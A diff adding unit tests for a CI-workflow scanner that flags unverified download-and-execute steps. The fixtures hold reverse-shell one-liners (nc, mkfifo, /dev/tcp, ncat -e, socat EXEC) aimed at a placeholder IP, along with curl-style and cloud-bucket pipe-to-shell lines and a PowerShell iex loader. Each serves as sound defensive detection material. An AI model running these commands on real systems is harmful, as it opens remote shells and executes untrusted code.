@@ -29,6 +29,63 @@ class UnverifiedDownloadExecTest {
     }
 
     @Test
+    void knowsMoreLoaders() {
+        MarkedYaml.steps("""
+                - run: http https://example.org/i.sh | sh                          # finds: unverified-download-exec medium
+                - run: http GET https://example.org/version
+                - run: deno install -A https://example.org/i.ts                    # finds: unverified-download-exec low medium-confidence
+                - run: deno install
+                """).isFoundBy(CHECK);
+    }
+
+    @Test
+    void findsShellsAtConnections() {
+        MarkedYaml.steps("""
+                - run: nc 192.0.2.1 99 | sh                                        # finds: unverified-download-exec medium
+                - run: mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 99 > /tmp/f   # finds: unverified-download-exec medium
+                - run: bash -i >& /dev/tcp/192.0.2.1/99 0>&1                       # finds: unverified-download-exec medium
+                - run: sh -c 'bash -i &> /dev/tcp/192.0.2.1/99 <&1'                # finds: unverified-download-exec medium
+                - run: ncat -e /bin/bash 192.0.2.1 99                              # finds: unverified-download-exec medium
+                - run: socat TCP:192.0.2.1:99 EXEC:/bin/sh                         # finds: unverified-download-exec medium
+                - run: while ! nc -z localhost 5432; do sleep 1; done
+                - run: timeout 5 bash -c '</dev/tcp/localhost/5432'
+                - run: echo > /dev/tcp/localhost/5432
+                - run: echo stats | nc localhost 11211 | grep pid
+                - run: bash -x build.sh &> build.log
+                - run: echo 'date' | sh | nc -N logs.example.org 99
+                - run: socat TCP-LISTEN:80,fork TCP:localhost:8080
+                """).isFoundBy(CHECK);
+    }
+
+    /** They may be the project's own. */
+    @Test
+    void isUnsureAboutBuckets() {
+        MarkedYaml.steps("""
+                - run: |
+                    aws s3 cp s3://bucket/a/install.sh .
+                    bash install.sh                          # finds: unverified-download-exec medium low-confidence
+                - run: aws --region eu s3 cp s3://bucket/b.sh - | bash  # finds: unverified-download-exec medium low-confidence
+                - run: |
+                    aws s3api get-object --bucket bucket --key k /tmp/c.sh
+                    sh /tmp/c.sh                             # finds: unverified-download-exec medium medium-confidence
+                - run: |
+                    gsutil -m cp gs://bucket/d bin/
+                    ./bin/d                                  # finds: unverified-download-exec medium low-confidence
+                - run: gcloud storage cat gs://bucket/e | sh  # finds: unverified-download-exec medium low-confidence
+                - run: |
+                    aws s3 cp s3://bucket/f.sh .
+                    sha256sum -c f.sh.sha256
+                    sh f.sh
+                - run: |
+                    aws s3 cp g.sh s3://bucket/g.sh --acl private
+                    sh g.sh
+                - run: |
+                    gsutil cp gs://bucket/h.sh gs://other/h.sh
+                    sh h.sh
+                """).isFoundBy(CHECK);
+    }
+
+    @Test
     void findsWhatPowerShellEvaluates() {
         MarkedYaml.steps("""
                 - run: iex (iwr https://example.org/i.ps1).Content                 # finds: unverified-download-exec medium
